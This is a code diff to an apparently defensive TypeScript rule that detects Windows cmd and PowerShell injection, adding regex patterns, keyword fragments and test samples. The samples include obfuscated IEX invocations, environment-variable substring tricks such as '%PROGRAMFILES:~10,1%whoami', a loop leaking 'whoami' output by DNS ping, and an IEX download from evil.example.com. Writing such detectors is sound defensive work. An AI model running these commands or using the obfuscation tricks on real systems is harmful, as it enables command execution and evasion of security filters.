@@ -1,3 +1,4 @@
+import { followsValue } from '../../text/place.ts';
 import type { Match, ValueRule } from '../rule.ts';
 import type { Subject } from '../subject.ts';
 import { usesOf } from './vocabulary.ts';
@@ -27,6 +28,14 @@ export const windowsShell: ValueRule = {
         '| iex',
         'invoke-',
         'comspec',
+        ':~',
+        'for /',
+        "&('",
+        '&("',
+        "& ('",
+        '& ("',
+        ".('",
+        '.("',
       ],
     ],
   },
@@ -39,6 +48,10 @@ export const windowsShell: ValueRule = {
     'powershell -c "Get-Process"',
     'IEX (New-Object Net.WebClient).DownloadString("http://evil.example.com/a")',
     'powershell.exe -nop -w hidden -c ls',
+    "x & for /f %i in ('whoami') do ping %i.example.com",
+    '%PROGRAMFILES:~10,1%whoami',
+    "&('I'+'EX') $x",
+    '& ("{1}{0}" -f "X","IE")',
   ],
   lookalikes: [
     'How do I open PowerShell or cmd on Windows 11?',
@@ -46,6 +59,10 @@ export const windowsShell: ValueRule = {
     'The /c switch of cmd is documented',
     'PowerShell -Version 7 is out now',
     'https://example.com/setup.exe?v=2',
+    'set today=%date:~0,4%',
+    "x && ('a' + 'b')",
+    'for /usr/bin in (the) list',
+    "for /f %%i in ('dir /b') do echo %%i",
   ],
 };
 
@@ -58,6 +75,14 @@ const forms: readonly RegExp[] = [
   /\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|new-object net\.webclient)\b[^|\n]{0,200}\| {0,3}(?:iex|invoke-expression)\b/i,
 ];
 
+/** The same in prose is a question about batch files. */
+const valueForms: readonly RegExp[] = [
+  /\bfor {1,3}\/[fdlr] {1,3}(?:"[^"\n]{0,60}" {1,3})?%[a-z] {1,3}in {0,3}\(['"`\w]/i,
+  /%(?!date|time|cd)[a-z_()]{3,24}:~-?\d{1,3}(?:,-?\d{1,3})?%/i,
+  /(?:^|[^&])[&.] {0,2}\( {0,2}(?:'[^'\n]{1,40}' {0,2}\+ {0,2}'|"(?:\{\d\}){2,8}" {0,2}-f)/,
+  /(?:^|[^&\w])[&.] {0,2}\( {0,2}['"](?:iex|invoke-expression|gcm|cmd|powershell)['"] {0,2}\)/i,
+];
+
 function judge(subject: Subject): Match | undefined {
   const text = subject.text;
   for (const form of forms) {
@@ -66,6 +91,12 @@ function judge(subject: Subject): Match | undefined {
     const name = match[1];
     if (name !== undefined && !isCommand(name)) continue;
     return { start: match.index, end: match.index + match[0].length };
+  }
+  for (const form of valueForms) {
+    const match = form.exec(text);
+    if (match === null) continue;
+    const score = followsValue(text, match.index) ? 86 : 50;
+    return { start: match.index, end: match.index + match[0].length, score };
   }
   return undefined;
 }
